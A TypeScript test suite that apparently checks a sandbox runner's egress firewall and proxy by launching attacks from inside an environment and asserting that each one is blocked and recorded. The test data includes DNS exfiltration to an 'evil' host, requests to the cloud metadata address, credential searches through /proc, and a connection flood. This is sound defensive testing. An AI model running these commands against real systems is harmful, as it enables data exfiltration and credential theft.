// Attacks on the egress rules from inside a real environment. Each one must fail, and
// be recorded where there is something to record it: a proxy event for what reaches the
// proxy; for what the firewall rejects, the namespace's nftables counter and a 'firewall'
// event naming the destination, port and rule. The suite prints how many it tried and
// how many were blocked.
//
// The "outside" servers listen on 127.0.0.2, the one address the test escape hatch opens;
// the host's own services (PostgreSQL on 127.0.0.1:5432) stay behind the address check.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import pino from 'pino';
import { ImageStore, LocalRunner, type EnvironmentSpec } from '../../src/runner/index.ts';
import { NetworkEventStore, type NetworkEvent, type Resolver } from '../../src/runner/network/index.ts';
import { DEFAULT_LIMITS } from '../../src/shared/environment.ts';
import { newId } from '../../src/shared/ids.ts';
import { IMAGE_DIR, runToEnd } from '../helpers.ts';
import { basePolicy, startOutside, TestPolicies, type Outside } from './fixtures.ts';

const logger = pino({ level: process.env.BERTH_TEST_LOG ?? 'silent' });
const SECRET = `berth-test-credential-${Math.random().toString(36).slice(2)}`;
const MAX_CONNECTIONS = 32;

const resolved: string[] = [];
const names: Record<string, string[]> = {
  'outside.test': ['127.0.0.2'],
  'api.outside.test': ['127.0.0.2'],
  'rebind.test': ['127.0.0.1'],
  'postgres.test': ['127.0.0.1'],
  'metadata.test': ['169.254.169.254'],
  'six.test': ['::1'],
  'mapped.test': ['::ffff:127.0.0.1'],
};
const resolver: Resolver = async (host) => {
  resolved.push(host);
  const a = names[host];
  if (!a) throw Object.assign(new Error(`ENOTFOUND ${host}`), { code: 'ENOTFOUND' });
  return a;
};

interface Outcome {
  name: string;
  blocked: boolean;
  recorded: string;
}
const outcomes: Outcome[] = [];

describe('egress attacks from inside an environment', () => {
  let dataDir: string;
  let outside: Outside;
  let runner: LocalRunner;
  let spec: EnvironmentSpec;
  let neighbour: EnvironmentSpec;
  const events = new NetworkEventStore();
  const policies = new TestPolicies();
  let proxy: { host: string; port: number };

  before(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'berth-attacks-'));
    outside = await startOutside('127.0.0.2');
    // A generous policy: every name here is allowed and so are the ports, so what
    // stops each attack is the part under test, not a missing allow rule.
    policies.policy = basePolicy({
      allowDomains: ['*.test', 'outside.test', 'rebind.test', 'postgres.test', 'metadata.test', 'six.test', 'mapped.test'],
      allowPorts: [80, 443, 5432, outside.httpPort, outside.httpsPort],
      maxConnections: MAX_CONNECTIONS,
      credentials: [{ host: 'api.outside.test', pathPrefix: '/v1/', header: 'authorization', value: `Bearer ${SECRET}`, name: 'api' }],
    });
    const images = new ImageStore({ dir: IMAGE_DIR, logger });
    runner = new LocalRunner({ dataDir, images, logger, network: { policies, events, resolver, allowPrivateAddresses: ['127.0.0.2/32'], upstreamCa: outside.caPem } });
    const image = await images.resolve('default');
    spec = { id: newId('env'), hostname: 'attacker', image, limits: DEFAULT_LIMITS };
    neighbour = { id: newId('env'), hostname: 'neighbour', image, limits: DEFAULT_LIMITS };
    await runner.start(spec);
    await runner.start(neighbour);
    proxy = runner.network!.proxyAddress(spec.id)!;
  });

  after(async () => {
    const blocked = outcomes.filter((o) => o.blocked).length;
    console.log(`\negress attacks: ${outcomes.length} tried, ${blocked} blocked`);
    for (const o of outcomes) console.log(`  ${o.blocked ? 'blocked' : 'NOT BLOCKED'}  ${o.name.padEnd(70)} ${o.recorded}`);
    await runner?.remove(spec.id).catch(() => {});
    await runner?.remove(neighbour.id).catch(() => {});
    runner?.close();
    await outside?.close();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  const sh = (script: string, env?: Record<string, string>) => runToEnd(runner.exec(spec, { cmd: ['sh', '-c', script], env, timeoutMs: 60_000 }));
  const py = (code: string) => runToEnd(runner.exec(spec, { cmd: ['python3', '-c', code], timeoutMs: 60_000 }));
  const blockedCount = async () => (await runner.network!.blocked(spec.id))?.packets ?? 0;
  const since = (n: number) => events.events(spec.id).slice(n);

  /**
   * Runs one attack: `attempt` returns whether it failed; a proxy event must show it, or
   * for the firewall the counter and, within a few seconds, an event that `check` accepts.
   */
  async function attack(name: string, via: 'firewall' | 'proxy' | 'kernel', attempt: () => Promise<boolean>, check?: (e: NetworkEvent[]) => boolean) {
    const counter = await blockedCount();
    const n = events.events(spec.id).length;
    const blocked = await attempt();
    let recorded = 'refused by the kernel (no capability, no route)';
    if (via === 'firewall') {
      const delta = (await blockedCount()) - counter;
      assert.ok(delta > 0, `${name}: the firewall counter did not move`);
      assert.ok(check, `${name}: a firewall attack says which event records it`);
      const firewall = () => since(n).filter((e) => e.kind === 'firewall');
      await until(() => check(firewall()), 5_000).catch(() => assert.fail(`${name}: no matching firewall event in ${JSON.stringify(firewall())}`));
      const matching = firewall().filter((e) => check([e]));
      assert.ok(matching.every((e) => !e.allowed && e.packets! >= 1), JSON.stringify(matching));
      recorded = `firewall counter +${delta}, event ${[...new Set(matching.map((e) => `${e.method} ${e.host}:${e.port} ${e.rule}`))].join(', ')}`;
    } else if (via === 'proxy') {
      await until(() => since(n).some((e) => !e.allowed));
      const denied = since(n).filter((e) => !e.allowed);
      if (check) assert.ok(check(denied), `${name}: ${JSON.stringify(denied)}`);
      recorded = `proxy event ${[...new Set(denied.map((e) => e.rule))].join(', ')}`;
    }
    outcomes.push({ name, blocked, recorded });
    assert.ok(blocked, `${name} was not blocked`);
  }

  const curlFails = async (args: string, env?: Record<string, string>) => {
    const r = await sh(`curl -sS -m 5 -o /dev/null -w '%{http_code}' ${args}`, env);
    return r.exitCode !== 0 || !/^2/.test(r.stdout);
  };
  /** A TCP connection with the proxy variables ignored: python's socket, not curl. */
  const tcp = (host: string, port: number, family = 'AF_INET') =>
    py(`import socket,sys\ns=socket.socket(socket.${family});s.settimeout(5)\ntry:\n  s.connect((${JSON.stringify(host)},${port}));print('connected')\nexcept Exception as e:\n  print('failed',e)`).then((r) => !r.stdout.includes('connected'));

  test('direct connections, with the proxy variables unset', async () => {
    await attack('direct TCP to an outside address (1.1.1.1:443)', 'firewall', () => tcp('1.1.1.1', 443), refused('TCP', '1.1.1.1', 443, 'direct-connection'));
    await attack('curl with the proxy variables unset (env -i)', 'firewall', async () => (await sh(`env -i PATH=/usr/bin:/bin curl -sS -m 5 http://93.184.216.34/`)).exitCode !== 0, refused('TCP', '93.184.216.34', 80, 'direct-connection'));
    await attack('curl --noproxy to the outside server through the host end', 'firewall', () => curlFails(`--noproxy '*' http://${proxy.host}:${outside.httpPort}/`), refused('TCP', proxy.host, outside.httpPort, 'host'));
    await attack('direct TCP to the host end of the veth, PostgreSQL port', 'firewall', () => tcp(proxy.host, 5432), refused('TCP', proxy.host, 5432, 'host'));
    await attack('direct TCP to the host end of the veth, SSH port', 'firewall', () => tcp(proxy.host, 22), refused('TCP', proxy.host, 22, 'host'));
    const interfaces = Object.values(networkInterfaces()).flat();
    const hostIp = networkInterfaces().eth0?.find((a) => a.family === 'IPv4')?.address ?? '192.0.2.2';
    const hostHasIt = interfaces.some((a) => a?.address === hostIp);
    await attack(`direct TCP to the host's own address (${hostIp}:5432)`, 'firewall', () => tcp(hostIp, 5432), refused('TCP', hostIp, 5432, hostHasIt ? 'host' : 'direct-connection'));
    await attack('direct TCP to the metadata address 169.254.169.254:80', 'firewall', () => tcp('169.254.169.254', 80), refused('TCP', '169.254.169.254', 80, 'metadata'));
    await attack("127.0.0.1:5432 inside is the environment's own loopback, not the host's", 'kernel', () => tcp('127.0.0.1', 5432));
  });

  test('other environments are out of reach', async () => {
    const theirs = runner.network!.proxyAddress(neighbour.id)!;
    await attack("direct TCP to another environment's proxy", 'firewall', () => tcp(theirs.host, theirs.port), refused('TCP', theirs.host, theirs.port, 'other-environment'));
    const theirEnd = theirs.host.replace(/\d+$/, (d) => String(Number(d) + 1));
    await attack("direct TCP to another environment's address", 'firewall', () => tcp(theirEnd, 8080), refused('TCP', theirEnd, 8080, 'other-environment'));
  });

  test('UDP, DNS and IPv6', async () => {
    // Wherever resolv.conf points, the query is a refused packet to port 53.
    await attack('DNS lookup through the system resolver', 'firewall', async () => (await sh('getent hosts example.com')).exitCode !== 0, (e) => e.some((x) => x.port === 53 && x.rule === 'deny:firewall:dns'));
    await attack('UDP datagram to 8.8.8.8:53 (DNS exfiltration)', 'firewall', async () => {
      const r = await py(`import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(2)\ntry:\n  s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x04evil\\x03com\\x00\\x00\\x01\\x00\\x01',('8.8.8.8',53));print(s.recvfrom(512))\nexcept Exception as e:\n  print('failed',e)`);
      return !r.stdout.startsWith('(');
    }, refused('UDP', '8.8.8.8', 53, 'dns'));
    await attack('TCP DNS to 8.8.8.8:53', 'firewall', () => tcp('8.8.8.8', 53), refused('TCP', '8.8.8.8', 53, 'dns'));
    await attack('DNS exfiltration through the proxy: a name outside the policy is never resolved', 'proxy', async () => {
      const before = resolved.length;
      policies.policy = { ...policies.policy, allowDomains: policies.policy.allowDomains.filter((d) => d !== '*.test') };
      try {
        const failed = await curlFails(`http://c2VjcmV0.exfil.evil.example/`);
        return failed && !resolved.slice(before).some((h) => h.includes('exfil'));
      } finally {
        policies.policy = { ...policies.policy, allowDomains: ['*.test', ...policies.policy.allowDomains] };
      }
    });
    await attack('IPv6 TCP to 2606:4700:4700::1111', 'firewall', () => tcp('2606:4700:4700::1111', 443, 'AF_INET6'), refused('TCP', '2606:4700:4700::1111', 443, 'ipv6'));
    await attack('IPv6 literal through the proxy (http://[2606:4700:4700::1111]/)', 'proxy', () => curlFails('http://[2606:4700:4700::1111]/'), (e) => e.some((x) => x.rule === 'deny:ip-address'));
    await attack('a name resolving to ::1 through the proxy', 'proxy', () => curlFails(`http://six.test:${outside.httpPort}/`), (e) => e.some((x) => x.rule === 'deny:private-address:::1'));
    await attack('a name resolving to ::ffff:127.0.0.1 through the proxy', 'proxy', () => curlFails(`http://mapped.test:5432/`), (e) => e.some((x) => x.rule === 'deny:private-address:127.0.0.1'));
  });

  test('a refusal loop is recorded per destination with every packet counted', async () => {
    const n = events.events(spec.id).length;
    await py(`import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nfor i in range(300):\n  try: s.sendto(b'x',('8.8.4.4',53))\n  except OSError: pass\nfor i in range(20):\n  try: s.sendto(b'x',('8.8.4.4',5353))\n  except OSError: pass`);
    const packets = (port: number) => since(n).filter((e) => e.kind === 'firewall' && e.host === '8.8.4.4' && e.port === port).reduce((sum, e) => sum + e.packets!, 0);
    await until(() => packets(53) === 300 && packets(5353) === 20, 5_000).catch(() => assert.fail(`counted ${packets(53)} and ${packets(5353)} packets: ${JSON.stringify(since(n))}`));
    // A loop is a few events (one per destination per read), not one per packet.
    assert.ok(since(n).length <= 20, `${since(n).length} events`);
  });

  test('through the proxy: raw addresses, metadata, rebinding, Host tricks', async () => {
    await attack('http://169.254.169.254/ through the proxy', 'proxy', () => curlFails('http://169.254.169.254/latest/meta-data/'), (e) => e.some((x) => x.rule === 'deny:ip-address'));
    await attack('a name resolving to 169.254.169.254', 'proxy', () => curlFails('http://metadata.test/latest/meta-data/'), (e) => e.some((x) => x.rule === 'deny:private-address:169.254.169.254'));
    await attack('CONNECT to a raw IP (https://1.1.1.1/)', 'proxy', () => curlFails('https://1.1.1.1/'), (e) => e.some((x) => x.kind === 'connect' && x.rule === 'deny:ip-address'));
    await attack('CONNECT to a decimal IP (2130706433:5432)', 'proxy', async () => {
      const r = await py(`import socket\ns=socket.create_connection((${JSON.stringify(proxy.host)},${proxy.port}),5)\ns.sendall(b'CONNECT 2130706433:5432 HTTP/1.1\\r\\n\\r\\n');print(s.recv(100))`);
      return r.stdout.includes('403');
    });
    await attack('a name resolving to 127.0.0.1 (the host\'s PostgreSQL), plain HTTP', 'proxy', () => curlFails('http://postgres.test:5432/'), (e) => e.some((x) => x.rule === 'deny:private-address:127.0.0.1'));
    await attack('a name resolving to 127.0.0.1, CONNECT', 'proxy', () => curlFails('https://rebind.test:5432/'), (e) => e.some((x) => x.kind === 'connect' && x.rule === 'deny:private-address:127.0.0.1'));
    await attack('Host header naming the host\'s PostgreSQL on an allowed URL: upstream sees the URL\'s host', 'proxy', async () => {
      const n = outside.seen.length;
      const ok = await sh(`curl -sS -m 5 -H 'Host: 127.0.0.1:5432' http://outside.test:${outside.httpPort}/h; curl -sS -m 5 http://rebind.test:5432/`);
      return outside.seen.slice(n).every((s) => s.headers.host === `outside.test:${outside.httpPort}`) && ok.stdout.includes(`host=outside.test:${outside.httpPort}`);
    });
    await attack('a second request on a kept-alive connection to a refused host', 'proxy', async () => {
      const r = await sh(`curl -sS -m 5 -w ' %{http_code} %{num_connects}\\n' http://outside.test:${outside.httpPort}/a http://rebind.test:${outside.httpPort}/b`);
      return /200 1\n[\s\S]*403 0\n$/.test(r.stdout);
    });
    await attack('an origin-form request sent to the proxy as if it were the server', 'proxy', () => curlFails(`-H 'Host: outside.test' --noproxy '*' http://${proxy.host}:${proxy.port}/`), (e) => e.some((x) => x.rule === 'deny:not-a-proxy-request'));
    await attack('CONNECT to an allowed name on a port the policy does not allow (22)', 'proxy', () => curlFails('https://outside.test:22/'), (e) => e.some((x) => /port:22$/.test(x.rule)));
  });

  test('the credential never enters the environment', async () => {
    // Use it once, so it is live somewhere in the runner while the environment looks.
    const used = await sh(`curl -sS -m 5 -o /dev/null -w '%{http_code}' https://api.outside.test:${outside.httpsPort}/v1/x`);
    assert.equal(used.stdout, '200', used.stderr);
    assert.equal(outside.seen.at(-1)?.headers.authorization, `Bearer ${SECRET}`);
    await attack('looking for the credential in /proc (environ, cmdline), the environment and the files', 'kernel', async () => {
      // The pattern arrives in halves and goes to a file under /dev (not searched), so
      // the search's own command line does not contain what it looks for.
      const half = Math.floor(SECRET.length / 2);
      const r = await sh(`printf '%s%s' "$A" "$B" > /dev/shm/p; env | grep -cf /dev/shm/p; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -acf /dev/shm/p; grep -rslI --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -f /dev/shm/p / 2>/dev/null | wc -l`, { A: SECRET.slice(0, half), B: SECRET.slice(half) });
      return r.stdout.split('\n').filter(Boolean).every((n) => n.trim() === '0');
    });
    await attack('the credential over plain HTTP to its host (no TLS, so none added)', 'kernel', async () => {
      const n = outside.seen.length;
      await sh(`curl -sS -m 5 http://api.outside.test:${outside.httpPort}/v1/x`);
      return outside.seen.slice(n).every((s) => s.headers.authorization === undefined);
    });
    await attack('the credential for a path outside its prefix', 'kernel', async () => {
      const n = outside.seen.length;
      await sh(`curl -sS -m 5 --path-as-is https://api.outside.test:${outside.httpsPort}/v1/../admin`);
      return outside.seen.slice(n).every((s) => s.headers.authorization === undefined);
    });
  });

  test('the environment cannot change its own network', async () => {
    await attack('ip addr add / ip route / ip link down inside', 'kernel', async () => {
      const r = await sh('ip addr add 10.9.9.9/32 dev eth0; ip route replace default dev eth0; ip link set eth0 down; ip -o addr show eth0 | grep -c 10.9.9.9');
      return r.stdout.trim() === '0' && /Operation not permitted/.test(r.stderr);
    });
    await attack('raw and packet sockets (no CAP_NET_RAW)', 'kernel', async () => {
      const r = await py(`import socket\nfor a in ((socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP),(socket.AF_PACKET,socket.SOCK_RAW,0)):\n  try:\n    socket.socket(*a);print('opened')\n  except Exception as e:\n    print('failed',e)`);
      return !r.stdout.includes('opened');
    });
    await attack('a new network namespace sees no way out either', 'kernel', async () => {
      const r = await sh(`unshare -rn sh -c 'ip -o link | wc -l; curl -sS -m 3 http://93.184.216.34/' 2>&1`);
      return r.exitCode !== 0 || !/^\s*\d+\s*$/.test(r.stdout) || !r.stdout.includes('<html');
    });
  });

  test('ten thousand connections', async () => {
    await attack('opening 10 000 connections to the proxy', 'proxy', async () => {
      const r = await py(`import socket,errno
ss=[];err=0
for i in range(10000):
  s=socket.socket();s.setblocking(False)
  try: s.connect((${JSON.stringify(proxy.host)},${proxy.port}))
  except BlockingIOError: pass
  except OSError: err+=1
  ss.append(s)
import time;time.sleep(3)
print(len(ss),err)`);
      const u = runner.network!.usage(spec.id);
      console.log(`  10 000 connections: the environment opened ${r.stdout.trim().split(' ')[0]}; the proxy held at most ${u.peak} at once (cap ${MAX_CONNECTIONS}) and refused ${u.refused} (the rest were still in the listen queue when the attacker gave up)`);
      return u.peak <= MAX_CONNECTIONS && u.refused >= 1_000;
    }, (e) => e.some((x) => x.rule === 'deny:max-connections'));
    // The proxy still serves once they are gone. Closed clients are usually noticed at once;
    // on a loaded machine the last idle ones may wait for the proxy's 30 s headers timeout.
    await until(() => runner.network!.usage(spec.id).open === 0, 40_000);
    const after = await sh(`curl -sS -m 5 http://outside.test:${outside.httpPort}/after`);
    assert.equal(after.stdout, `hello GET /after host=outside.test:${outside.httpPort}\n`, after.stderr);
  });
});

/** A firewall event for exactly this destination, protocol and rule. */
function refused(method: string, host: string, port: number, rule: string) {
  return (e: NetworkEvent[]) => e.some((x) => x.kind === 'firewall' && x.method === method && x.host === host && x.port === port && x.rule === `deny:firewall:${rule}`);
}


async function until(check: () => boolean | Promise<boolean>, timeoutMs = 5_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error('timed out waiting');
    await new Promise((r) => setTimeout(r, 20));
  }
}
